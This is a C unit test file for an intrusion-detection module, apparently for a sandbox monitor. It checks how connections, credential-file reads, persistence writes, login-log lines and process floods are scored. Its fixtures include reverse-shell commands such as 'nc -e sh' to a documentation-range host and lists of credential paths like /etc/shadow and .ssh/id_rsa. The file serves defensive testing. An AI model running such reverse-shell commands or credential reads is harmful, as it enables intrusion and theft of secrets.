/* SPDX-License-Identifier: GPL-2.0-or-later */
/* Connections, files, logs, amounts; and what is told when the same comes again. */
#include <arpa/inet.h>
#include <netinet/in.h>
#include <setjmp.h>
#include <stdarg.h>
#include <stdint.h>
#include <stdio.h>
#include <string.h>
#include <sys/socket.h>

#include <cmocka.h>

#include "base/mem.h"
#include "monitor/detect.h"
#include "monitor/places.h"

#define NONE AUDIT_LEVEL_COUNT
#define MB (1024ull * 1024)

static const struct detect_settings plain = { 0 };

/* ---- connections */

static const struct {
	const char *address;
	uint16_t port;
	bool is_private;
	enum audit_level unknown, passed, refused, in_list; /* the last: refused in allowlist */
} connections[] = {
	{ "169.254.169.254", 80, true, AUDIT_HIGH, AUDIT_CRITICAL, AUDIT_WARNING, AUDIT_WARNING },
	{ "203.0.113.10", 4444, false, AUDIT_HIGH, AUDIT_CRITICAL, AUDIT_HIGH, AUDIT_HIGH },
	{ "203.0.113.10", 5555, false, AUDIT_HIGH, AUDIT_CRITICAL, AUDIT_HIGH, AUDIT_HIGH },
	{ "203.0.113.10", 1234, false, AUDIT_HIGH, AUDIT_CRITICAL, AUDIT_HIGH, AUDIT_HIGH },
	{ "203.0.113.10", 31337, false, AUDIT_HIGH, AUDIT_CRITICAL, AUDIT_HIGH, AUDIT_HIGH },
	{ "203.0.113.10", 12345, false, AUDIT_HIGH, AUDIT_CRITICAL, AUDIT_HIGH, AUDIT_HIGH },
	{ "10.1.2.3", 4444, true, AUDIT_HIGH, AUDIT_CRITICAL, AUDIT_HIGH, AUDIT_HIGH },
	{ "10.1.2.3", 80, true, AUDIT_WARNING, AUDIT_HIGH, AUDIT_WARNING, AUDIT_WARNING },
	{ "192.168.1.1", 22, true, AUDIT_WARNING, AUDIT_HIGH, AUDIT_WARNING, AUDIT_WARNING },
	{ "8.8.8.8", 53, false, AUDIT_WARNING, AUDIT_WARNING, AUDIT_WARNING, AUDIT_WARNING },
	{ "8.8.8.8", 853, false, AUDIT_WARNING, AUDIT_WARNING, AUDIT_WARNING, AUDIT_WARNING },
	{ "203.0.113.10", 443, false, NONE, NONE, NONE, AUDIT_HIGH },
	{ "127.0.0.1", 4444, true, NONE, NONE, NONE, NONE },
	{ "127.5.5.5", 5555, true, NONE, NONE, NONE, NONE },
	{ "0.0.0.0", 5555, true, NONE, NONE, NONE, NONE },
	{ "::1", 4444, false, NONE, NONE, NONE, NONE },
	{ "::ffff:127.0.0.1", 4444, false, NONE, NONE, NONE, NONE },
	{ "2001:db8::1", 4444, false, AUDIT_HIGH, AUDIT_CRITICAL, AUDIT_HIGH, AUDIT_HIGH },
	{ "2001:db8::1", 443, false, NONE, NONE, NONE, AUDIT_HIGH },
};

static struct watch_event connect_to(const char *address, uint16_t port) {
	struct watch_event e = { .kind = WATCH_CONNECT, .connect = { .protocol = IPPROTO_TCP } };

	e.connect.family = strchr(address, ':') ? AF_INET6 : AF_INET;
	e.connect.port = port;
	assert_int_equal(inet_pton(e.connect.family, address, e.connect.address), 1);
	return e;
}

static enum audit_level level_of(const struct watch_event *e, const struct detect_settings *set) {
	struct findings all = { 0 };

	detect_connect(e, set, &all);
	assert_true(all.count <= 1);
	if (!all.count)
		return NONE;
	assert_int_equal(all.items[0].category, AUDIT_NETWORK);
	assert_int_equal(all.items[0].evidence, AUDIT_EVIDENCE_NETWORK);
	assert_true(all.items[0].indicator[0] && all.items[0].title[0]);
	return all.items[0].level;
}

static void connections_by_table(void **state) {
	const struct detect_settings list = { .is_allowlist = true };

	(void)state;
	for (size_t i = 0; i < ARRAY_SIZE(connections); i++) {
		struct watch_event e = connect_to(connections[i].address, connections[i].port);

		e.connect.is_private = connections[i].is_private;
		assert_int_equal(level_of(&e, &plain), connections[i].unknown);
		e.connect.verdict = WATCH_PASSED;
		assert_int_equal(level_of(&e, &plain), connections[i].passed);
		assert_int_equal(level_of(&e, &list), connections[i].passed);
		e.connect.verdict = WATCH_REFUSED;
		assert_int_equal(level_of(&e, &plain), connections[i].refused);
		assert_int_equal(level_of(&e, &list), connections[i].in_list);
		/* What somebody has allowed, and the container's own gateway. */
		e.connect.verdict = WATCH_OPENED;
		assert_int_equal(level_of(&e, &plain), NONE);
		e.connect.verdict = WATCH_PASSED;
		e.connect.is_own = true;
		assert_int_equal(level_of(&e, &plain), NONE);
	}
}

static void addresses_as_text(void **state) {
	char out[DETECT_ADDRESS_MAX];
	struct watch_event e = connect_to("203.0.113.10", 80);

	(void)state;
	assert_string_equal(detect_address(&e.connect, out), "203.0.113.10:80");
	e.connect.port = 0;
	assert_string_equal(detect_address(&e.connect, out), "203.0.113.10");
	e = connect_to("2001:db8::1", 443);
	assert_string_equal(detect_address(&e.connect, out), "[2001:db8::1]:443");
}

/* ---- files and lines */

static const struct {
	const char *path;
	enum watch_access access;
	const char *comm;
	const char *rule; /* NULL: silent */
	enum audit_level level;
} files[] = {
	{ "/home/code/.ssh/id_rsa", WATCH_OPEN, "cat", "file.credential", AUDIT_HIGH },
	{ "/home/code/.ssh/id_rsa", WATCH_READ, "ssh", NULL, NONE },
	{ "/home/code/.ssh/id_rsa", WATCH_OPEN, "git", NULL, NONE },
	{ "/home/code/.ssh/id_rsa", WATCH_OPEN, NULL, "file.credential", AUDIT_HIGH },
	{ "/etc/shadow", WATCH_OPEN, "python3", "file.credential", AUDIT_HIGH },
	{ "/etc/shadow", WATCH_OPEN, "unix_chkpwd", NULL, NONE },
	{ "/home/code/.git-credentials", WATCH_OPEN, "git-credential-", NULL,
	  NONE }, /* cut to 15 */
	{ "/home/code/.npmrc", WATCH_OPEN, "node", NULL, NONE },
	{ "/home/code/.npmrc", WATCH_OPEN, "grep", "file.credential", AUDIT_WARNING },
	{ "/workspace/src/a.c", WATCH_OPEN, "cat", NULL, NONE },
	{ "/etc/cron.d/x", WATCH_CREATE, "sh", "file.persistence", AUDIT_HIGH },
	{ "/etc/cron.d/x", WATCH_OPEN, "sh", NULL, NONE },
	{ "/home/code/.bashrc", WATCH_WRITE, "sh", "file.persistence", AUDIT_WARNING },
	{ "/home/code/.ssh/authorized_keys", WATCH_MOVE, "sh", "file.persistence", AUDIT_HIGH },
	{ "/workspace/.git/hooks/post-commit", WATCH_CREATE, "sh", "file.persistence",
	  AUDIT_WARNING },
	{ "/workspace/a", WATCH_WRITE, "sh", NULL, NONE },
};

static void files_by_table(void **state) {
	(void)state;
	for (size_t i = 0; i < ARRAY_SIZE(files); i++) {
		const struct watch_event e = { .kind = WATCH_FILE,
			                       .comm = files[i].comm,
			                       .file = { .path = files[i].path,
			                                 .access = files[i].access } };
		struct findings all = { 0 };

		detect_file(&e, &plain, &all);
		assert_int_equal(all.count, files[i].rule ? 1 : 0);
		if (!files[i].rule)
			continue;
		assert_string_equal(all.items[0].rule, files[i].rule);
		assert_int_equal(all.items[0].level, files[i].level);
		assert_string_equal(all.items[0].indicator, files[i].path);
	}
}

static void secrets_and_bait_whoever_it_is(void **state) {
	struct watch_event e = { .kind = WATCH_FILE,
		                 .comm = "git",
		                 .file = { .path = "/workspace/x", .is_secret = true } };
	struct findings all = { 0 };

	(void)state;
	detect_file(&e, &plain, &all);
	assert_int_equal(all.items[0].level, AUDIT_HIGH);
	e.file.is_canary = true;
	all.count = 0;
	detect_file(&e, &plain, &all);
	assert_int_equal(all.items[0].level, AUDIT_CRITICAL);
}

static void what_is_refused_is_told_of_owners_too(void **state) {
	struct watch_event e = { .kind = WATCH_FILE,
		                 .comm = "ssh",
		                 .file = { .path = "/root/.ssh/id_rsa", .was_refused = true } };
	struct findings all = { 0 };

	(void)state;
	detect_file(&e, &plain, &all);
	assert_int_equal(all.count, 1);
	assert_string_equal(all.items[0].rule, "block.secret");
	assert_int_equal(all.items[0].level, AUDIT_HIGH);
	assert_int_equal(all.items[0].category, AUDIT_CREDENTIAL_ACCESS);
	/* Of no list of ours: somebody has listed it. */
	e.file.path = "/srv/x";
	all.count = 0;
	detect_file(&e, &plain, &all);
	assert_int_equal(all.items[0].level, AUDIT_HIGH);
	e.file.path = "/usr/bin/nmap";
	e.file.is_tool = true;
	all.count = 0;
	detect_file(&e, &plain, &all);
	assert_string_equal(all.items[0].rule, "block.tool");
	assert_int_equal(all.items[0].category, AUDIT_PROCESS);
}

static void each_place_can_be_found(void **state) {
	(void)state;
	for (const struct place *p = places(); p->pattern; p++) {
		autofree char *path = NULL;
		const char *pattern = p->pattern;

		assert_true(p->what && *p->what);
		if (*pattern == '/')
			path = xstrdup(pattern);
		else if (!strncmp(pattern, "**", 2))
			path = xasprintf("/workspace%s", pattern + 2);
		else
			path = xasprintf("/home/code/%s", pattern);
		for (char *star = path; (star = strchr(star, '*'));)
			*star = 'x';
		assert_non_null(place_find(path, p->kind));
		assert_int_equal(place_find(path, p->kind)->level, p->level);
	}
}

static void lines_of_the_login_log(void **state) {
	static const struct {
		const char *text, *rule;
	} rows[] = {
		{ "sudo: pam_unix(sudo:auth): authentication failure; logname=", "auth.failure" },
		{ "sshd[1]: Failed password for root from 10.0.0.1 port 22 ssh2", "auth.failure" },
		{ "sudo: code : user NOT in sudoers ; TTY=pts/0", "auth.sudoers" },
		{ "useradd[1]: new user: name=eve, UID=1001", "auth.user" },
		{ "usermod: add 'eve' to group 'sudo'", "auth.user" },
		{ "passwd[1]: pam_unix(passwd:chauthtok): password changed for root", "auth.user" },
		{ "sshd[1]: Accepted publickey for code", "auth.login" },
		{ "sudo: pam_unix(sudo:session): session opened for user root", NULL },
		{ "CRON[1]: pam_unix(cron:session): session closed", NULL },
	};

	(void)state;
	for (size_t i = 0; i < ARRAY_SIZE(rows); i++) {
		const struct watch_event e = {
			.kind = WATCH_LINE, .line = { .file = "auth.log", .text = rows[i].text }
		};
		struct findings all = { 0 };

		detect_line(&e, &plain, &all);
		assert_int_equal(all.count, rows[i].rule ? 1 : 0);
		if (rows[i].rule)
			assert_string_equal(all.items[0].rule, rows[i].rule);
	}
}

/* ---- amounts */

static struct watch_event counters(uint64_t ms, uint64_t read_mb, uint64_t write_mb,
                                   uint64_t sent_mb) {
	return (struct watch_event){ .kind = WATCH_COUNTERS,
		                     .when_ms = ms,
		                     .counters = { .workspace_bytes = read_mb * MB,
		                                   .read_bytes = UINT64_MAX,
		                                   .write_bytes = write_mb * MB,
		                                   .sent_bytes = sent_mb * MB,
		                                   .processes = UINT64_MAX,
		                                   .tmp_total = UINT64_MAX } };
}

static void feed(struct detector *d, struct watch_event e, struct findings *ret) {
	detector_feed(d, &e, ret);
}

static void much_in_one_interval(void **state) {
	const struct detect_settings set = { .read_mb = 50, .read_mb_per_s = 1000 };
	struct detector *d = detector_new(&set);
	struct findings f;

	(void)state;
	feed(d, counters(1000, 1000, 0, 0), &f); /* what there was before is nothing */
	assert_int_equal(f.count, 0);
	feed(d, counters(3000, 1050, 0, 0), &f);
	assert_int_equal(f.count, 0);
	feed(d, counters(5000, 1101, 0, 0), &f);
	assert_int_equal(f.count, 1);
	assert_string_equal(f.items[0].rule, "volume.read");
	assert_int_equal(f.items[0].level, AUDIT_WARNING);
	assert_true(f.items[0].amount > 50.9 && f.items[0].amount < 51.1);
	/* Once in a while, whatever the number. */
	feed(d, counters(7000, 1170, 0, 0), &f);
	assert_int_equal(f.count, 0);
	/* And it leaves: high. */
	feed(d, counters(9000, 1230, 0, 40), &f);
	assert_int_equal(f.count, 1);
	assert_int_equal(f.items[0].level, AUDIT_HIGH);
	/* A counter that begins anew is no amount. */
	feed(d, counters(11000, 5, 0, 0), &f);
	assert_int_equal(f.count, 0);
	feed(d, counters(13000, 5, 60, 0), &f);
	assert_string_equal(f.items[0].rule, "volume.write");
	detector_free(d);
}

/* Programs and libraries, after a boot: told, and no alarm; unless as much leaves. */
static void disks_alone(void **state) {
	const struct detect_settings set = { .read_mb = 50, .read_mb_per_s = 1000 };
	struct detector *d = detector_new(&set);
	struct watch_event e = counters(1000, 0, 0, 0);
	struct findings f;

	(void)state;
	e.counters.read_bytes = 0;
	feed(d, e, &f);
	e.when_ms = 3000;
	e.counters.read_bytes = 60 * MB;
	feed(d, e, &f);
	assert_int_equal(f.count, 1);
	assert_string_equal(f.items[0].rule, "volume.read-disk");
	assert_int_equal(f.items[0].level, AUDIT_INFO);
	/* Of both the graver is told. */
	e.when_ms = 5000;
	e.counters.read_bytes = 120 * MB;
	e.counters.workspace_bytes = 60 * MB;
	feed(d, e, &f);
	assert_int_equal(f.count, 1);
	assert_string_equal(f.items[0].rule, "volume.read");
	e.when_ms = 7000;
	e.counters.read_bytes = 180 * MB;
	e.counters.sent_bytes = 30 * MB;
	feed(d, e, &f);
	assert_int_equal(f.count, 1);
	assert_string_equal(f.items[0].rule, "volume.read-disk");
	assert_int_equal(f.items[0].level, AUDIT_HIGH);
	/* Nobody counts the workspace: the same. */
	detector_free(d);
	d = detector_new(&set);
	e = counters(1000, 0, 0, 0);
	e.counters.workspace_bytes = UINT64_MAX;
	e.counters.read_bytes = 0;
	feed(d, e, &f);
	e.when_ms = 3000;
	e.counters.read_bytes = 60 * MB;
	feed(d, e, &f);
	assert_int_equal(f.count, 1);
	assert_int_equal(f.items[0].level, AUDIT_INFO);
	detector_free(d);
}

static void a_rate_that_lasts(void **state) {
	const struct detect_settings set = { .read_mb_per_s = 10 };
	struct detector *d = detector_new(&set);
	struct findings f;
	uint64_t ms = 0, mb = 0, told_at = 0;

	(void)state;
	for (int i = 0; i < 4; i++, ms += 2000, mb += 30) { /* 15 MB/s for 6 s, then a pause */
		feed(d, counters(ms, mb, 0, 0), &f);
		assert_int_equal(f.count, 0);
	}
	feed(d, counters(ms, mb - 30, 0, 0), &f);
	for (int i = 0; i < 10 && !told_at; i++) {
		ms += 2000;
		mb += 30;
		feed(d, counters(ms, mb, 0, 0), &f);
		if (f.count)
			told_at = ms;
	}
	assert_int_equal(told_at, 8000 + 12000);
	detector_free(d);
}

static void tmp_and_processes(void **state) {
	const struct detect_settings set = { .processes = 100 };
	struct detector *d = detector_new(&set);
	struct watch_event e = counters(1000, 0, 0, 0);
	struct findings f;

	(void)state;
	e.counters.tmp_total = 100 * MB;
	e.counters.tmp_used = 80 * MB;
	e.counters.processes = 100;
	feed(d, e, &f);
	assert_int_equal(f.count, 0);
	e.when_ms = 2000;
	e.counters.tmp_used = 81 * MB;
	e.counters.processes = 101;
	feed(d, e, &f);
	assert_int_equal(f.count, 2);
	assert_string_equal(f.items[0].rule, "volume.tmp");
	assert_int_equal(f.items[0].level, AUDIT_WARNING);
	assert_string_equal(f.items[1].rule, "volume.processes");
	assert_int_equal(f.items[1].level, AUDIT_HIGH);
	detector_free(d);
}

static struct watch_event run(uint64_t ms, const char *word) {
	static char *argv[2];

	argv[0] = (char *)word;
	return (struct watch_event){
		.kind = WATCH_EXEC,
		.when_ms = ms,
		.exec = { .exe = word, .file = word, .comm = word, .argv = argv, .argc = 1 }
	};
}

static void spawns_in_any_second(void **state) {
	const struct detect_settings set = { .spawns_per_s = 100 };
	struct detector *d = detector_new(&set);
	struct findings f;
	int told = 0;

	(void)state;
	/* 100 a second for ever are allowed. */
	for (uint64_t ms = 0; ms < 5000; ms += 10) {
		feed(d, run(10000 + ms, "true"), &f);
		assert_int_equal(f.count, 0);
	}
	/* 200 a second are not, and are told once. */
	for (uint64_t ms = 0; ms < 5000; ms += 5) {
		feed(d, run(20000 + ms, "true"), &f);
		told += (int)f.count;
	}
	assert_int_equal(told, 1);
	detector_free(d);
}

/* What has waited to be read is of when it happened. */
static void late_ones_were_not_at_once(void **state) {
	const struct detect_settings set = { .spawns_per_s = 100 };
	struct detector *d = detector_new(&set);
	struct findings f;
	int told = 0;

	(void)state;
	for (uint64_t i = 0; i < 500; i++) {
		struct watch_event e = run(20000, "true");

		e.at_us = (10000 + i * 20) * 1000;
		feed(d, e, &f);
		assert_int_equal(f.count, 0);
	}
	/* A bomb is one, though it is read late, and in no order. */
	for (uint64_t i = 0; i < 500; i++) {
		struct watch_event e = run(30000, "true");

		e.at_us = (20000 + (i ^ 1)) * 1000;
		feed(d, e, &f);
		told += (int)f.count;
	}
	assert_int_equal(told, 1);
	detector_free(d);
}

static void processes_that_run_nothing(void **state) {
	const struct detect_settings set = { .spawns_per_s = 1000 };
	struct detector *d = detector_new(&set);
	struct watch_event e = { .kind = WATCH_FORK, .fork = { .count = 16 } };
	struct findings f;
	uint64_t sum = 0;

	(void)state;
	/* 800 a second for ever are allowed. */
	for (e.when_ms = 10000; e.when_ms < 15000; e.when_ms += 20) {
		feed(d, e, &f);
		assert_int_equal(f.count, 0);
	}
	/* A bomb is told as soon as it passes the rate. */
	for (e.when_ms = 20000, f.count = 0; !f.count; sum += 16)
		feed(d, e, &f);
	assert_int_equal(sum, 1008);
	assert_string_equal(f.items[0].title, "Many new processes");
	assert_int_equal(f.items[0].level, AUDIT_HIGH);
	detector_free(d);
}

/* Seldom enough that no batch is ever full: what is left of each tenth of a second counts. */
static void few_processes_count_when_they_were_made(void **state) {
	const struct detect_settings set = { .spawns_per_s = 50 };
	struct detector *d = detector_new(&set);
	struct watch_event e = { .kind = WATCH_FORK };
	struct findings f;
	int told = 0;

	(void)state;
	/* Forty a second, all of them heard of late and at once. */
	e.fork.count = 4;
	e.when_ms = 60000;
	for (uint64_t ms = 10000; ms < 15000; ms += 100) {
		e.at_us = ms * 1000;
		feed(d, e, &f);
		assert_int_equal(f.count, 0);
	}
	/* A hundred a second. */
	e.fork.count = 10;
	for (uint64_t ms = 20000; ms < 21000; ms += 100) {
		e.at_us = ms * 1000;
		feed(d, e, &f);
		told += (int)f.count;
	}
	assert_int_equal(told, 1);
	detector_free(d);
}

static void names_in_a_minute(void **state) {
	const struct detect_settings set = { .queries_per_minute = 100 };
	struct detector *d = detector_new(&set);
	struct findings f;
	int told = 0;

	(void)state;
	for (int i = 0; i < 250; i++) {
		const struct watch_event e = { .kind = WATCH_QUERY,
			                       .when_ms = 1000 + (uint64_t)i * 100,
			                       .query = { .name = "x.test" } };

		detector_feed(d, &e, &f);
		told += (int)f.count;
		if (f.count)
			assert_int_equal(i, 100);
	}
	assert_int_equal(told, 1);
	detector_free(d);
}

/* ---- again, and too many */

static void the_same_is_told_once(void **state) {
	struct detector *d = detector_new(&plain);
	struct findings f;
	size_t slot;

	(void)state;
	assert_int_equal(detector_next(d), UINT64_MAX);
	feed(d, run(1000, "env"), &f);
	assert_int_equal(f.count, 1);
	assert_int_equal(f.items[0].count, 0);
	slot = f.items[0].slot;
	assert_int_equal(detector_next(d), UINT64_MAX);
	for (int i = 0; i < 5; i++) {
		feed(d, run(2000 + (uint64_t)i, "env"), &f);
		assert_int_equal(f.count, 0);
	}
	/* Another one is another one. */
	feed(d, run(3000, "printenv"), &f);
	assert_int_equal(f.count, 1);
	assert_int_equal(detector_next(d), 1000 + DETECT_AGAIN_MS);
	detector_tick(d, 1000 + DETECT_AGAIN_MS - 1, &f);
	assert_int_equal(f.count, 0);
	detector_tick(d, 1000 + DETECT_AGAIN_MS, &f);
	assert_int_equal(f.count, 1);
	assert_int_equal(f.items[0].count, 5);
	assert_int_equal(f.items[0].slot, slot);
	/* Its time is over: told anew. */
	feed(d, run(40000, "env"), &f);
	assert_int_equal(f.count, 1);
	feed(d, run(41000, "env"), &f);
	feed(d, run(80000, "env"), &f); /* nobody ticked */
	assert_int_equal(f.count, 2);
	assert_int_equal(f.items[0].count, 1);
	assert_int_equal(f.items[1].count, 0);
	feed(d, run(80001, "env"), &f);
	detector_tick(d, UINT64_MAX, &f);
	assert_int_equal(f.count, 1);
	detector_free(d);
}

static void a_flood_of_different_ones_is_counted(void **state) {
	struct detector *d = detector_new(&plain);
	struct findings f;
	size_t told = 0, critical = 0;

	(void)state;
	for (int i = 0; i < 5000; i++) {
		autofree char *word = xasprintf("nmap-%d", i);
		char *argv[] = { (char *)"nmap", word, NULL };
		struct watch_event e = run(1000, "nmap");

		e.exec.argv = argv;
		e.exec.argc = 2;
		feed(d, e, &f);
		told += f.count;
	}
	assert_int_equal(told, DETECT_EACH_SECOND);
	assert_int_equal(detector_suppressed(d), 5000 - DETECT_EACH_SECOND);
	assert_int_equal(detector_suppressed(d), 0);
	/* They take no room from what is acted upon. */
	{
		char *argv[] = { (char *)"ncat", (char *)"203.0.113.1", (char *)"4444", NULL };
		struct watch_event e = run(1001, "ncat");

		e.exec.argv = argv;
		e.exec.argc = 3;
		feed(d, e, &f);
		assert_int_equal(f.count, 1);
		assert_int_equal(f.items[0].level, AUDIT_HIGH);
	}
	/* The gravest are always told. */
	for (int i = 0; i < 50; i++) {
		autofree char *port = xasprintf("%d", 4000 + i);
		char *argv[] = { (char *)"nc",          (char *)"-e", (char *)"sh",
			         (char *)"203.0.113.1", port,         NULL };
		struct watch_event e = run(1001, "nc");

		e.exec.argv = argv;
		e.exec.argc = 5;
		feed(d, e, &f);
		critical += f.count;
	}
	assert_int_equal(critical, 50);
	detector_free(d);
}

static void what_is_remembered_has_an_end(void **state) {
	struct detector *d = detector_new(&plain);
	struct findings f;

	(void)state;
	for (int i = 0; i < DETECT_REMEMBERED * 3; i++) {
		autofree char *word = xasprintf("nmap-%d", i);
		char *argv[] = { (char *)"nmap", word, NULL };
		struct watch_event e = run(1000 + (uint64_t)i * 100, "nmap");

		e.exec.argv = argv;
		e.exec.argc = 2;
		feed(d, e, &f);
		assert_int_equal(f.count, 1);
	}
	detector_free(d);
}

static void each_has_a_word_of_its_own(void **state) {
	(void)state;
	for (int i = 0; i < WATCH_STREAM_COUNT; i++)
		for (int k = 0; k < i; k++)
			assert_string_not_equal(watch_stream_to_string((enum watch_stream)i),
						watch_stream_to_string((enum watch_stream)k));
	for (int i = 0; i < WATCH_ACCESS_COUNT; i++)
		for (int k = 0; k < i; k++)
			assert_string_not_equal(watch_access_to_string((enum watch_access)i),
						watch_access_to_string((enum watch_access)k));
	for (int i = 0; i < WATCH_STATE_COUNT; i++)
		assert_true(!strncmp(watch_state_to_string((enum watch_state)i), "source.", 7));
}

int main(void) {
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(connections_by_table),
		cmocka_unit_test(addresses_as_text),
		cmocka_unit_test(files_by_table),
		cmocka_unit_test(secrets_and_bait_whoever_it_is),
		cmocka_unit_test(what_is_refused_is_told_of_owners_too),
		cmocka_unit_test(each_place_can_be_found),
		cmocka_unit_test(lines_of_the_login_log),
		cmocka_unit_test(much_in_one_interval),
		cmocka_unit_test(disks_alone),
		cmocka_unit_test(a_rate_that_lasts),
		cmocka_unit_test(tmp_and_processes),
		cmocka_unit_test(spawns_in_any_second),
		cmocka_unit_test(late_ones_were_not_at_once),
		cmocka_unit_test(processes_that_run_nothing),
		cmocka_unit_test(few_processes_count_when_they_were_made),
		cmocka_unit_test(names_in_a_minute),
		cmocka_unit_test(the_same_is_told_once),
		cmocka_unit_test(a_flood_of_different_ones_is_counted),
		cmocka_unit_test(what_is_remembered_has_an_end),
		cmocka_unit_test(each_has_a_word_of_its_own),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
